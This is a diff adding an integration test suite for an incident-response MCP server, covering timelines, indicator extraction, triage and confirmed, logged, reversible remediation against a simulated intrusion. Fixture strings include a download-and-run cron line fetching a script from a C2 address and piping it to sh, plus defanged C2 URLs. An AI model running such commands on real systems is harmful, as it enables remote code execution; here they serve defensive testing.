@@ -1,0 +1,284 @@
+/**
+ * Analysis, triage and response end to end: the built MCP server over stdio against the test server loaded with the
+ * incident fixture (a Windows + Linux intrusion with endpoint state for the remediation artifacts).
+ */
+import { existsSync, mkdtempSync, readFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { packageRoot } from "../../mcp/common/paths.js";
+import { startTestServer, type TestServer } from "../server/index.js";
+import { call, startMcp, type StartedMcp } from "../helpers/mcp.js";
+
+const FIN = "C.1a2b3c4d5e6f7a01";
+const HR = "C.1a2b3c4d5e6f7a02";
+const WEB = "C.2b3c4d5e6f7a8b01";
+const DB = "C.2b3c4d5e6f7a8b02";
+const EVIL = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe";
+const EVIL_SHA = "c96e7733d743fb1f53aaf0a6c358e4d24fbf099913d8e76d00c4d3279d436fdc";
+const RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+
+let vr: TestServer;
+let respond: StartedMcp;
+let readOnly: StartedMcp;
+let investigate: StartedMcp;
+let evidence: string;
+let cases: string;
+
+const endpoint = (client: string) => vr.model.org("root")!.clients.get(client)!.endpoint!;
+
+beforeAll(async () => {
+  vr = await startTestServer({ fixture: join(packageRoot(), "test", "fixtures", "incident.json"), flowCompletionMs: 150 });
+  const config = vr.writeApiClientYaml(mkdtempSync(join(tmpdir(), "mr-i3-")));
+  evidence = mkdtempSync(join(tmpdir(), "mr-i3-evidence-"));
+  cases = mkdtempSync(join(tmpdir(), "mr-i3-cases-"));
+  const env = { MEGARAPTOR_EVIDENCE_DIR: evidence, MEGARAPTOR_CASES_DIR: cases, MEGARAPTOR_TEMPLATE_DIR: join(cases, "no-templates") };
+  [respond, readOnly, investigate] = await Promise.all([
+    startMcp({ args: ["--config", config, "--mode", "respond"], env }),
+    startMcp({ args: ["--config", config, "--read-only"], env }),
+    startMcp({ args: ["--config", config, "--mode", "investigate"], env }),
+  ]);
+});
+afterAll(async () => {
+  await Promise.all([respond?.close(), readOnly?.close(), investigate?.close()]);
+  await vr?.stop();
+});
+
+describe("generate_timeline", () => {
+  it("merges a client's flows into one ordered timeline with sources, fields and MACB times", async () => {
+    const r = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 1000 });
+    expect(r.ok).toBe(true);
+    const events = r.structured!.events as { datetime: string; source: string; field: string; timestamp_desc: string; message: string }[];
+    const times = events.map((e) => e.datetime);
+    expect([...times].sort()).toEqual(times);
+    expect(new Set(events.map((e) => e.source))).toEqual(new Set(["Windows.System.Pslist", "Windows.Network.Netstat", "Windows.NTFS.MFT", "Windows.EventLogs.EvtxHunter", "Windows.Forensics.Prefetch", "Windows.Detection.Amcache"]));
+    const macb = events.filter((e) => e.source === "Windows.NTFS.MFT" && e.message.includes("upd.exe")).map((e) => e.timestamp_desc);
+    expect(macb).toEqual(expect.arrayContaining(["File created ($SI)", "File modified ($SI)", "File accessed ($SI)", "MFT entry changed ($SI)", "File created ($FN)"]));
+    expect(events.filter((e) => e.field === "LastRunTimes")).toHaveLength(3);
+    const created = times[events.findIndex((e) => e.source === "Windows.System.Pslist" && e.message.startsWith("upd.exe"))]!;
+    const service = times[events.findIndex((e) => e.message.includes("EventID 7045"))]!;
+    expect(created < service).toBe(true);
+    expect(r.structured!.stats.untimed).toBe(0);
+  });
+
+  it("pages with a cursor without gaps, and filters by window and text", async () => {
+    const all = (await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 1000 })).structured!.events;
+    const p1 = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 5 });
+    expect(p1.structured!.page.has_more).toBe(true);
+    const p2 = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 5, cursor: p1.structured!.page.next_cursor });
+    expect([...p1.structured!.events, ...p2.structured!.events]).toEqual(all.slice(0, 10));
+    const w = await call(readOnly.client, "generate_timeline", { client_id: FIN, start: "2026-11-20T08:14:00Z", end: "2026-11-20T08:14:10Z", text: "upd.exe" });
+    expect(w.structured!.events.length).toBeGreaterThan(3);
+    for (const e of w.structured!.events) expect(e.datetime >= "2026-11-20T08:14:00" && e.datetime <= "2026-11-20T08:14:10Z").toBe(true);
+    const bad = await call(readOnly.client, "generate_timeline", { client_id: FIN, start: "2026-11-21T00:00:00Z", end: "2026-11-20T00:00:00Z" });
+    expect(bad.error?.message).toMatch(/^end: is before start/);
+  });
+
+  it("writes a hunt's timeline in Timesketch format to an evidence file", async () => {
+    const r = await call(readOnly.client, "generate_timeline", { hunt_ids: ["H.PSWIN00001"], format: "timesketch", case_id: "IR-TEST" });
+    const f = r.structured!.file;
+    const lines = readFileSync(f.path, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l));
+    expect(lines).toHaveLength(f.records);
+    expect(new Set(lines.map((l) => l.client_id))).toEqual(new Set([FIN, HR]));
+    for (const l of lines) for (const k of ["message", "datetime", "timestamp_desc"]) expect(l[k]).toBeTruthy();
+  });
+});
+
+describe("extract_iocs and correlate", () => {
+  it("extracts deduplicated indicators with clients and artifacts from hunts, suppressing private addresses", async () => {
+    const r = await call(readOnly.client, "extract_iocs", { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001"], limit: 500 });
+    const by = new Map((r.structured!.indicators as { type: string; value: string; clients: string[]; artifacts: string[]; public?: boolean }[]).map((i) => [`${i.type} ${i.value}`, i]));
+    expect(by.get("ipv4 185.220.101.4")).toMatchObject({ clients: [FIN, HR], public: true, artifacts: ["Windows.Network.Netstat"] });
+    expect(by.get(`sha256 ${EVIL_SHA}`)!.clients).toEqual([FIN, HR]);
+    expect(by.has("url https://update-check.biz/api")).toBe(true); // refanged from hxxps://update-check[.]biz
+    expect(by.has("domain update-check.biz")).toBe(true);
+    expect([...by.keys()].some((k) => k.startsWith("ipv4 10."))).toBe(false);
+    expect(r.structured!.suppressed["non-public address"]).toBeGreaterThan(0);
+  });
+
+  it("exports STIX 2.1 and MISP files, and reads pasted defanged text", async () => {
+    const s = await call(readOnly.client, "extract_iocs", { client_id: WEB, format: "stix", case_id: "IR-TEST" });
+    const bundle = JSON.parse(readFileSync(s.structured!.file.path, "utf8"));
+    expect(bundle.type).toBe("bundle");
+    expect(bundle.objects.some((o: { pattern?: string }) => o.pattern === "[ipv4-addr:value = '185.220.101.4']")).toBe(true);
+    const m = await call(readOnly.client, "extract_iocs", { text: "C2 hxxp://185.220.101[.]4/k.sh and evil[.]biz", format: "misp" });
+    const misp = JSON.parse(readFileSync(m.structured!.file.path, "utf8"));
+    expect(misp.Event.Attribute.map((a: { type: string; value: string }) => `${a.type} ${a.value}`).sort()).toEqual(["domain evil.biz", "ip-dst 185.220.101.4", "url http://185.220.101.4/k.sh"]);
+    const none = await call(readOnly.client, "extract_iocs", {});
+    expect(none.error?.message).toMatch(/^text: give text, or a scope/);
+  });
+
+  it("builds the client × indicator matrix across Windows and Linux hunts", async () => {
+    const r = await call(readOnly.client, "correlate", { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001", "H.PSLIN00001"], indicators: ["185.220.101[.]4", EVIL_SHA] });
+    const m = r.structured!.matrix;
+    expect(m.clients).toEqual([FIN, HR, WEB]);
+    expect(m.by_indicator).toEqual([{ indicator: "185.220.101.4", clients: 3 }, { indicator: EVIL_SHA, clients: 2 }]);
+    expect(m.clients).not.toContain(DB);
+    const p = await call(readOnly.client, "correlate", { hunt_ids: ["H.PSWIN00001"], pivot: "process_hash" });
+    expect(p.structured!.shared.find((s: { value: string }) => s.value === EVIL_SHA)).toMatchObject({ client_count: 2 });
+  });
+});
+
+describe("triage and collection", () => {
+  it("quick_triage collects one flow for the OS and puts notable rows first (Windows)", async () => {
+    const r = await call(investigate.client, "quick_triage", { client_id: FIN, wait_timeout: 30 });
+    expect(r.ok).toBe(true);
+    const s = r.structured!;
+    expect(s).toMatchObject({ os: "windows", hostname: "WKS-FIN-01", state: "FINISHED" });
+    expect(s.skipped).toEqual(["Windows.System.Powershell.PSReadline"]);
+    const section = (n: string) => s.sections.find((x: { section: string }) => x.section === n);
+    expect(section("processes").notable.map((n: { row: { Name: string } }) => n.row.Name)).toEqual(["powershell.exe", "upd.exe"]);
+    expect(section("network").notable.flatMap((n: { reasons: string[] }) => n.reasons)).toEqual(["connected to public address 185.220.101.4", "listening on uncommon port 4444"]);
+    expect(section("services").notable.map((n: { row: { Name: string } }) => n.row.Name)).toEqual(["UpdSvc"]);
+    expect(section("scheduled").notable_count).toBe(0);
+    expect(vr.model.org("root")!.flows.get(`${FIN}/${s.flow_id}`)!.artifacts).toHaveLength(8);
+  });
+
+  it("quick_triage on Linux flags the reverse shell, cron download and uid-0 account", async () => {
+    const s = (await call(investigate.client, "quick_triage", { client_id: WEB, wait_timeout: 30 })).structured!;
+    expect(s.os).toBe("linux");
+    const reasons = s.sections.flatMap((x: { notable: { reasons: string[] }[] }) => x.notable.flatMap((n) => n.reasons));
+    expect(reasons).toEqual(expect.arrayContaining(["uid 0 account other than root", "launches an encoded/downloaded payload", "runs from a user-writable/temp path (/tmp/.x/kworker)"]));
+  });
+
+  it("collect_template refuses missing artifacts by name, or skips them when asked", async () => {
+    const refused = await call(investigate.client, "collect_template", { client_id: FIN, template: "malware" });
+    expect(refused.error?.message).toMatch(/template: the server lacks Windows.Detection.Yara.Process/);
+    const r = await call(investigate.client, "collect_template", { client_id: FIN, template: "malware", skip_missing: true, wait: true, wait_timeout: 30 });
+    expect(r.structured).toMatchObject({ template: "malware", version: "1.0.0", os: "windows", missing: ["Windows.Detection.Yara.Process"], state: "FINISHED" });
+    const unknown = await call(investigate.client, "collect_template", { client_id: FIN, template: "malwar" });
+    expect(unknown.error?.message).toMatch(/template: no template "malwar"/);
+  });
+
+  it("hunt_template creates a paused hunt limited to the OS", async () => {
+    const r = await call(investigate.client, "hunt_template", { template: "persistence", os: "linux", skip_missing: true });
+    expect(r.structured).toMatchObject({ state: "PAUSED", template: "persistence", missing: ["Linux.Sys.SystemdTimer"] });
+    const h = vr.model.org("root")!.hunts.get(r.structured!.hunt_id)!;
+    expect(h.artifacts).toEqual(["Linux.Sys.Crontab", "Linux.Sys.Services", "Linux.Ssh.AuthorizedKeys"]);
+  });
+
+  it("collect_bulk schedules per client, reports failures per client, and schedules nothing on a typo", async () => {
+    const before = vr.model.org("root")!.flows.size;
+    const typo = await call(investigate.client, "collect_bulk", { client_ids: [FIN, HR], artifacts: ["Windows.System.Pslst"] });
+    expect(typo.error?.message).toMatch(/unknown artifact "Windows.System.Pslst"/);
+    expect(vr.model.org("root")!.flows.size).toBe(before);
+    const r = await call(investigate.client, "collect_bulk", { client_ids: [FIN, HR, "C.ffffffffffffffff"], artifacts: ["Windows.System.Pslist", "Windows.Network.Netstat"], parameters: { "Windows.System.Pslist": { ProcessRegex: "upd" } }, wait: true, wait_timeout: 30 });
+    expect(r.structured!.scheduled).toBe(2);
+    expect(r.structured!.results.map((x: { client_id: string; state: string }) => [x.client_id, x.state])).toEqual([[FIN, "FINISHED"], [HR, "FINISHED"], ["C.ffffffffffffffff", "NOT_SCHEDULED"]]);
+  });
+});
+
+describe("response: refusals", () => {
+  it("read-only and investigate modes neither list nor run remediation tools", async () => {
+    for (const m of [readOnly, investigate]) {
+      const names = (await m.client.listTools()).tools.map((t) => t.name);
+      for (const t of ["remediate_file", "kill_process", "remove_persistence", "rollback_change"]) expect(names).not.toContain(t);
+      expect(names).toContain("list_changes");
+      const r = await call(m.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "test" });
+      // Hidden tools cannot be called at all: the SDK answers that the tool does not exist.
+      expect(r.ok).toBe(false);
+      expect(r.text).toMatch(/remediate_file not found/);
+    }
+    expect(endpoint(FIN).files[EVIL]).toBeDefined();
+  });
+
+  it("refuses a real change without confirm=true and a reason, showing the plan, and touches nothing", async () => {
+    const flowsBefore = vr.model.org("root")!.flows.size;
+    const noConfirm = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", reason: "beacon" });
+    expect(noConfirm.error).toMatchObject({ code: "CONFIRMATION_REQUIRED", plan: { summary: `quarantine ${EVIL} on WKS-FIN-01 (${FIN})`, details: { parameters: { Action: "quarantine", DryRun: "N" } } } });
+    const noReason = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true });
+    expect(noReason.error?.message).toMatch(/needs a reason/);
+    expect(vr.model.org("root")!.flows.size).toBe(flowsBefore);
+    const critical = await call(respond.client, "kill_process", { client_id: FIN, name: "lsass.exe", case_id: "IR-TEST", confirm: true, reason: "x x" });
+    expect(critical.error?.message).toMatch(/^name: lsass.exe is a critical system process/);
+    const system = await call(respond.client, "remediate_file", { client_id: FIN, path: "C:\\Windows\\System32\\services.exe", case_id: "IR-TEST", dry_run: true });
+    expect(system.error?.message).toMatch(/system folder/);
+    const wrongOs = await call(respond.client, "remove_persistence", { client_id: FIN, kind: "cron", target: "/etc/crontab", value_name: "x", case_id: "IR-TEST", dry_run: true });
+    expect(wrongOs.error?.message).toMatch(/^kind: cron exists on linux clients/);
+    const audit = readFileSync(respond.auditPath, "utf8").trim().split("\n").map((l) => JSON.parse(l));
+    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.case === "IR-TEST")).toHaveLength(2);
+  });
+});
+
+describe("response: dry run, change, ledger, rollback", () => {
+  it("dry run reports exactly what would change and changes nothing", async () => {
+    const r = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", dry_run: true, expected_sha256: EVIL_SHA });
+    expect(r.ok).toBe(true);
+    expect(r.structured!.rows[0]).toMatchObject({ DryRun: true, Changed: false, Sha256: EVIL_SHA, Result: `would quarantine ${EVIL}` });
+    expect(r.structured!.ledger).toEqual([]);
+    expect(endpoint(FIN).files[EVIL]).toBeDefined();
+    expect(vr.model.artifacts.has("Custom.Megaraptor.Remediation.File")).toBe(true); // uploaded with artifact_set on first use
+  });
+
+  it("quarantines with confirm + reason, records the before-state, and rolls back exactly once", async () => {
+    const wrong = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "beaconing to 185.220.101.4", expected_sha256: "0".repeat(63) + "1" });
+    expect(wrong.structured!.rows[0].Result).toBe("hash mismatch");
+    expect(wrong.structured!.ledger[0]).toMatchObject({ seq: 1, result: "failed", rollback_possible: false });
+    expect(endpoint(FIN).files[EVIL]).toBeDefined();
+
+    const r = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", confirm: true, reason: "beaconing to 185.220.101.4", expected_sha256: EVIL_SHA });
+    if (!r.ok) throw new Error(r.text);
+    expect(r.structured!.ledger[0]).toMatchObject({ seq: 2, action: "quarantine_file", result: "ok", rollback_possible: true });
+    expect(endpoint(FIN).files[EVIL]).toBeUndefined();
+    const qpath = String(r.structured!.rows[0].QuarantinePath);
+    expect(qpath).toBe(`C:\\ProgramData\\Megaraptor\\Quarantine\\${EVIL_SHA}-upd.exe.quarantine`);
+    expect(endpoint(FIN).files[qpath]).toBeDefined();
+
+    const changes = await call(readOnly.client, "list_changes", { case_id: "IR-TEST" });
+    expect(changes.structured!.changes[1]).toMatchObject({ seq: 2, before: { sha256: EVIL_SHA, path: EVIL }, reason: "beaconing to 185.220.101.4", principal: expect.stringContaining("admin") });
+
+    const dry = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, dry_run: true });
+    expect(dry.structured!.rows[0].Result).toBe(`would restore ${qpath}`);
+    const back = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, confirm: true, reason: "false positive per user" });
+    expect(back.structured!.ledger[0]).toMatchObject({ action: "rollback", result: "ok" });
+    expect(endpoint(FIN).files[EVIL]).toBe("MZ-evil-payload-upd");
+    const again = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, confirm: true, reason: "again" });
+    expect(again.error?.message).toMatch(/already rolled back by #3/);
+  });
+
+  it("kills by pid (not reversible) and removes and restores a Run key and a cron line", async () => {
+    const dry = await call(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST", dry_run: true });
+    expect(dry.structured!.rows[0]).toMatchObject({ Name: "upd.exe", Result: "would kill", Changed: false });
+    const kill = await call(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST", confirm: true, reason: "active beacon" });
+    expect(kill.structured!.ledger[0]).toMatchObject({ action: "kill_process", result: "ok", rollback_possible: false });
+    expect(endpoint(FIN).processes.map((p) => p.Pid)).toEqual([700]);
+    const noRollback = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: kill.structured!.ledger[0].seq, confirm: true, reason: "x x x" });
+    expect(noRollback.error?.message).toMatch(/cannot be rolled back/);
+
+    const rm = await call(respond.client, "remove_persistence", { client_id: FIN, kind: "run_key", target: RUN_KEY, value_name: "Updater", case_id: "IR-TEST", confirm: true, reason: "malware persistence" });
+    expect(rm.structured!.rows[0]).toMatchObject({ Changed: true, Before: { data: `${EVIL} --silent` } });
+    expect(endpoint(FIN).registry[RUN_KEY]).toEqual({ OneDrive: expect.any(String) });
+    await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: rm.structured!.ledger[0].seq, confirm: true, reason: "restore for imaging" });
+    expect(endpoint(FIN).registry[RUN_KEY]!.Updater).toBe(`${EVIL} --silent`);
+
+    const line = "*/5 * * * * curl -s http://185.220.101.4/k.sh | sh";
+    const cron = await call(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: "/var/spool/cron/crontabs/www-data", value_name: line, case_id: "IR-TEST", confirm: true, reason: "miner" });
+    expect(cron.structured!.ledger[0].rollback_possible).toBe(true);
+    expect(endpoint(WEB).cron["/var/spool/cron/crontabs/www-data"]).toEqual(["0 3 * * * /usr/local/bin/backup.sh"]);
+  });
+
+  it("keeps a verified ledger and puts it, the audit actions, indicators and timeline in the report", async () => {
+    const changes = (await call(readOnly.client, "list_changes", { case_id: "IR-TEST" })).structured!;
+    expect(changes.verified).toBe(true);
+    expect(changes.changes.map((c: { action: string }) => c.action)).toEqual(["quarantine_file", "quarantine_file", "rollback", "kill_process", "remove_persistence", "rollback", "remove_persistence"]);
+    const r = await call(respond.client, "generate_report", {
+      case_id: "IR-TEST",
+      title: "WKS-FIN-01 intrusion",
+      summary: "Phishing document led to a beacon.",
+      findings: [{ title: "Beacon upd.exe", severity: "critical", detail: "Connects to 185.220.101.4", clients: [FIN] }],
+      client_id: FIN,
+      hunt_ids: ["H.NETWIN0001"],
+    });
+    expect(r.ok).toBe(true);
+    const md = readFileSync(r.structured!.files.find((f: { format: string }) => f.format === "markdown").path, "utf8");
+    expect(md).toContain("Beacon upd.exe");
+    expect(md).toContain("185.220.101.4");
+    expect(md).toContain("quarantine_file");
+    expect(md).toContain("SELECT * FROM source(client_id=ClientId, flow_id=FlowId, artifact=ArtifactName)");
+    expect(md).toMatch(/remediate_file/);
+    const html = readFileSync(r.structured!.files.find((f: { format: string }) => f.format === "html").path, "utf8");
+    expect(html).toContain('id="timeline-chart"');
+    expect(r.structured!.counts).toMatchObject({ clients: 2, hunts: 1, findings: 1, changes: 7 });
+    expect(existsSync(join(cases, "IR-TEST", "ledger.jsonl"))).toBe(true);
+  });
+});
